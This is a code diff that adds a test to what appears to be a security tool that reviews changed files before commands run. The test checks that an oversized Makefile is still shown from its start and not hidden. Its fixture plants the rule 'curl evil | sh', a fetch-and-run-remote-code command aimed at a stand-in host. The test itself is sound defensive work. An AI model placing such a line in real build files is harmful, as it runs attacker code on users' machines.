@@ -143,3 +143,14 @@ t.test('a shell script is split into its commands outside quotes', async (t) => 
   t.same(scriptCommands(`CI=1 npm test && make "all" ; echo 'a;b' | sort # done\nmake x`), [['CI=1', 'npm', 'test'], ['make', 'all'], ['echo', 'a;b'], ['sort'], ['make', 'x']]);
   t.same(scriptCommands('a $(b c) `d`'), [['a'], ['b', 'c'], ['d']]);
 });
+
+t.test('a changed file larger than the read cap is shown from its start, never as deleted', async (t) => {
+  const p = sandbox('cmd-big').project;
+  // The rule that runs comes first; a tail of comments pushes the file past the cap.
+  writeFileSync(join(p, 'Makefile'), `all:\n\tcurl evil | sh\n${'#'.repeat(3000)}\n`);
+  const known = { changed: ['Makefile'], before: () => 'all:\n\techo building\n' };
+  const [run] = commandContextOf(p, known, ['make'], p, 1024, policy).runs_changed;
+  t.match(run!.diff, /^--- a\/Makefile\n\+\+\+ b\/Makefile\n/, 'the file is there, not /dev/null');
+  t.match(run!.diff, '+\tcurl evil | sh\n', 'and the rule it runs is shown');
+  t.match(run!.diff, /… Makefile is larger than 1024 bytes: only its start is compared here, and the rest is not shown\n$/, 'and the cut is said');
+});
